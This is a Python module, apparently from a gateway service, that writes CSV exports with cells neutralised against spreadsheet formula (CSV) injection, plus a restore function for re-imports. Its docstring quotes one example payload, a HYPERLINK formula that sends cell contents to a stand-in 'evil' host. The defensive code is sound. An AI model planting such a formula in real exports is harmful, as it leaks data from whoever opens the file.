"""The one CSV writer of every file the gateway writes (audit export, address-book export,
finance records, ...): a cell a spreadsheet would run as a formula is neutralised.

Excel and LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
strip a leading tab or CR before looking), so a login e-mail or a title such as
``=HYPERLINK("http://evil/?"&A1)`` in an export could leak or run something when an official
opens the file (OWASP "CSV injection"). Such a cell is written with a leading ``'``, which the
spreadsheet shows as text and drops. A plain number (``-1200``, ``+3.5``) is left alone: it is
not a formula, and finance systems read negative amounts. :func:`restore` undoes the escape for
files the gateway reads back (the address-book import).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

__all__ = ["FORMULA_START", "SafeCsvWriter", "neutralise", "restore"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?[0-9]+(\.[0-9]+)?$")


class _Writable(Protocol):
    def write(self, s: str, /) -> Any: ...


def neutralise(value: object) -> str:
    """``value`` as a CSV cell no spreadsheet runs as a formula (None → empty)."""
    cell = "" if value is None else str(value)
    if cell.startswith(FORMULA_START) and not _NUMBER.match(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """A cell as it was before :func:`neutralise` escaped it."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
        return cell[1:]
    return cell


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through :func:`neutralise` first."""

    def __init__(self, handle: _Writable, **fmtparams: Any) -> None:
        self._writer = csv.writer(handle, **fmtparams)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row of neutralised cells."""
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)
